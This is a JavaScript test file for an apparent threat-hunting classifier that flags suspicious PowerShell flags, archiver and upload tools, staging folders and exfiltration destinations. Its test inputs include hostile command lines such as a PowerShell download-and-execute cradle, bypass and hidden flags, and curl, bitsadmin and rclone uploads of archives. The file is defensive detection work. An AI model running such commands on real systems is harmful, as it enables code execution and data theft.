import { test } from 'node:test';
import assert from 'node:assert/strict';
import { classifyLocation, execFlags, transferIntent, folderOf } from '../../src/hunt/classify.js';
import { classifyDestination, hostOf, isPrivateIp } from '../../src/hunt/destinations.js';
import { outcomeOf } from '../../src/hunt/signals.js';
import { ms, normUser } from '../../src/hunt/rows.js';

test('PowerShell flags: encoded, download cradle, hidden, bypass', () => {
  assert.deepEqual(execFlags('powershell.exe', 'PowerShell.EXE', 'powershell -enc SQBFAFgA'), ['powershell-encoded']);
  assert.ok(
    execFlags(
      'powershell.exe',
      '',
      'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x/a\')"',
    ).includes('powershell-download'),
  );
  assert.ok(execFlags('pwsh.exe', '', 'pwsh -WindowStyle Hidden -File a.ps1').includes('powershell-hidden'));
  assert.ok(execFlags('powershell.exe', '', 'powershell -w h -c x').includes('powershell-hidden'));
  assert.ok(
    execFlags('powershell.exe', '', 'powershell -ExecutionPolicy Bypass -File C:\\ProgramData\\x.ps1').includes(
      'powershell-bypass',
    ),
  );
  assert.deepEqual(execFlags('powershell.exe', '', 'powershell -NoProfile Get-Date'), []);
  // -e on a non-shell binary is not PowerShell's -EncodedCommand.
  assert.deepEqual(execFlags('notepad.exe', '', 'notepad -e x'), []);
});

test('archiver and upload-tool flags', () => {
  assert.ok(execFlags('svchostx.exe', 'rar.exe', 'svchostx.exe a x.rar').includes('renamed-archiver'));
  assert.ok(!execFlags('7z.exe', '7z.exe', '7z a x.7z').includes('renamed-archiver'));
  assert.ok(execFlags('7z2408-x64.exe', '', 'C:\\ProgramData\\7z2408-x64.exe /S').includes('silent-archiver-install'));
  assert.ok(execFlags('msiexec.exe', '', 'msiexec /i C:\\x\\7z2408-x64.msi /qn').includes('silent-archiver-install'));
  assert.ok(!execFlags('msiexec.exe', '', 'msiexec /i C:\\x\\office.msi /qn').includes('silent-archiver-install'));
  assert.ok(execFlags('rclone.exe', '', 'rclone copy a b').includes('rclone'));
  assert.ok(execFlags('curl.exe', '', 'curl.exe -T C:\\a.zip https://x').includes('curl-upload'));
  assert.ok(execFlags('curl.exe', '', 'curl.exe -o a.exe https://x').includes('upload-tool'));
  assert.ok(
    execFlags('bitsadmin.exe', '', 'bitsadmin /transfer j /upload https://x C:\\a.zip').includes('bitsadmin-upload'),
  );
  assert.ok(execFlags('cmd.exe', '', 'cmd /c C:\\Users\\Public\\run.bat').includes('script-user-writable'));
});

test('staging locations', () => {
  assert.equal(classifyLocation('C:\\Users\\bob\\AppData\\Local\\Temp'), 'temp');
  assert.equal(classifyLocation('C:\\Users\\Public'), 'public');
  assert.equal(classifyLocation('C:\\ProgramData'), 'programdata');
  assert.equal(classifyLocation('C:\\$Recycle.Bin\\S-1-5-21'), 'recycle-bin');
  assert.equal(classifyLocation('C:\\Staging'), 'unusual-root');
  assert.equal(classifyLocation('C:\\Users\\bob\\Documents\\backup'), 'backup');
  assert.equal(classifyLocation('D:\\Backup'), 'backup');
  assert.equal(classifyLocation('C:\\Users\\bob\\source\\repos\\app'), 'development');
  assert.equal(classifyLocation('C:\\Users\\bob\\Downloads'), 'downloads');
  assert.equal(classifyLocation('C:\\Windows\\SoftwareDistribution\\Download'), 'system');
  assert.equal(classifyLocation('E:\\'), 'removable');
  assert.equal(classifyLocation('\\\\fs01\\share'), 'network-share');
  assert.equal(folderOf('C:\\Users\\Public\\a.zip', 'a.zip'), 'C:\\Users\\Public');
  assert.equal(folderOf('C:\\Users\\Public', 'a.zip'), 'C:\\Users\\Public');
});

test('transfer intent from the command line', () => {
  assert.equal(
    transferIntent('powershell -c "Invoke-RestMethod -Uri https://x -Method Put -InFile C:\\a.zip"'),
    'upload',
  );
  assert.equal(transferIntent('rclone.exe copy C:\\data remote:bucket'), 'upload');
  assert.equal(transferIntent('curl.exe -T a.zip https://x'), 'upload');
  assert.equal(
    transferIntent('powershell Invoke-WebRequest -Uri https://7-zip.org/a.exe -OutFile C:\\a.exe'),
    'download',
  );
  assert.equal(transferIntent('powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\x.ps1'), 'unknown');
});

test('destinations: categories, hosts, private addresses', () => {
  assert.equal(hostOf('https://acct.blob.core.windows.net/c/x.zip?sig=1'), 'acct.blob.core.windows.net');
  assert.equal(hostOf('user@host.example:8443'), 'host.example');
  assert.equal(classifyDestination('acct.blob.core.windows.net', '20.60.1.1'), 'cloud-storage');
  assert.equal(classifyDestination('https://pastebin.com/raw', ''), 'paste-site');
  assert.equal(classifyDestination('outlook.live.com', ''), 'personal-webmail');
  assert.equal(classifyDestination('onedrive.live.com', ''), 'cloud-storage');
  assert.equal(classifyDestination('we.tl', ''), 'file-sharing');
  assert.equal(classifyDestination('contoso.sharepoint.com', ''), 'corporate');
  assert.equal(classifyDestination('', '10.1.2.3'), 'internal');
  assert.equal(classifyDestination('', '8.8.8.8'), 'other');
  assert.equal(classifyDestination('notblob.core.windows.net.evil.com', ''), 'other');
  assert.ok(isPrivateIp('172.16.0.1') && !isPrivateIp('172.32.0.1'));
});

test('outcomes, accounts and times', () => {
  assert.equal(outcomeOf('ConnectionSuccess'), 'success');
  assert.equal(outcomeOf('ConnectionSuccessAggregatedReport'), 'success');
  assert.equal(outcomeOf('ConnectionFailed'), 'failed');
  assert.equal(outcomeOf('ConnectionRequest'), 'other');
  assert.equal(normUser('CONTOSO\\JohnDoe'), 'johndoe');
  assert.equal(normUser('SYSTEM'), null);
  assert.equal(normUser('WS01$'), null);
  assert.ok(Math.abs(ms('2025-11-20T00:48:57.6034636Z') - ms('2025-11-20T00:48:57.6000000Z') - 3.4636) < 1e-3);
});
